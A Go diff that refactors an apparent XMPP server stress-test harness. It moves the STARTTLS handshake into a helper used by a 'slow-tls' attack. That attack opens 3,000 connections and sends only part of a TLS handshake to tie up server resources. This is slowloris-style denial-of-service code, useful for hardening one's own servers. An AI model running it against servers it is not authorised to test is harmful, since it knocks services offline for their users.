@@ -63,18 +63,8 @@ func streamAttacks() []attack {
 		}},
 		{"slow-tls", "3,000 connections that ask for STARTTLS and then send half a ClientHello", func(e *env) (string, error) {
 			return connFlood(e, 3000, 150, func(nc net.Conn) error {
-				if _, err := io.WriteString(nc, e.streamHeader()+"<starttls xmlns='urn:ietf:params:xml:ns:xmpp-tls'/>"); err != nil {
+				if err := startTLS(e, nc); err != nil {
 					return err
-				}
-				buf := make([]byte, 4096)
-				_ = nc.SetReadDeadline(time.Now().Add(5 * time.Second))
-				var got []byte
-				for !strings.Contains(string(got), "proceed") {
-					n, err := nc.Read(buf)
-					if err != nil {
-						return err
-					}
-					got = append(got, buf[:n]...)
 				}
 				// A TLS record header announcing a 16 KB handshake,
 				// and only its first bytes.
@@ -292,4 +282,24 @@ func repeatConnect(e *env, workers, nIPs int, f func(net.Conn) error) (string, e
 		}
 	})
 	return fmt.Sprintf("%d rounds, ", rounds.Load()) + e.counts(), nil
+}
+
+// startTLS opens a stream on nc and asks for STARTTLS, and returns once
+// the server said proceed (within 5 s), so that what the attack writes
+// next is read as TLS.
+func startTLS(e *env, nc net.Conn) error {
+	if _, err := io.WriteString(nc, e.streamHeader()+"<starttls xmlns='urn:ietf:params:xml:ns:xmpp-tls'/>"); err != nil {
+		return err
+	}
+	_ = nc.SetReadDeadline(time.Now().Add(5 * time.Second))
+	buf := make([]byte, 4096)
+	var got []byte
+	for !strings.Contains(string(got), "proceed") {
+		n, err := nc.Read(buf)
+		if err != nil {
+			return err
+		}
+		got = append(got, buf[:n]...)
+	}
+	return nil
 }
